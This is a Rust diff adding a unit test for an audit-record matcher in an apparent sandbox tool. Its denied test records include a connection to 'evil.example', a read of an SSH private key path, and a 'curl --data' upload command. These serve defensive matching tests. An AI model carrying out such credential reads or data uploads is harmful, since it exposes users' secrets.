@@ -169,3 +169,51 @@ pub fn explain_run(run: &str, what: &crate::cli::explain::What, json: bool) -> a
     }
     Ok(0)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::audit::{Decision, Layer};
+    use crate::cli::explain::What;
+
+    fn rec(action: &str, subject: &str) -> Record {
+        Record::new("r", Layer::Proxy, action, subject.into(), Decision::Deny)
+    }
+
+    #[test]
+    fn explain_run_matching() {
+        let connect = |h: &str| What::Connect { host: h.into() };
+        let r = rec("connect", "evil.example:443");
+        assert!(matches(&r, &connect("evil.example")).unwrap());
+        assert!(matches(&r, &connect("EVIL.example.:443")).unwrap());
+        assert!(!matches(&r, &connect("evil.example:80")).unwrap());
+        assert!(!matches(&r, &connect("other.example")).unwrap());
+        let v6 = rec("connect", "[::1]:8080");
+        assert!(matches(&v6, &connect("[::1]:8080")).unwrap());
+        let read = rec("read", "/h/.ssh/id_rsa");
+        let dir = What::Read {
+            path: "/h/.ssh".into(),
+        };
+        assert!(matches(&read, &dir).unwrap());
+        assert!(!matches(
+            &read,
+            &What::Write {
+                path: "/h/.ssh".into()
+            }
+        )
+        .unwrap());
+        assert!(!matches(
+            &read,
+            &What::Read {
+                path: "/h/.ss".into()
+            }
+        )
+        .unwrap());
+        let exec = rec("exec", "curl --data @x https://e");
+        let argv = |a: &[&str]| What::Exec {
+            argv: a.iter().map(|s| s.to_string()).collect(),
+        };
+        assert!(matches(&exec, &argv(&["curl", "--data"])).unwrap());
+        assert!(!matches(&exec, &argv(&["wget"])).unwrap());
+    }
+}
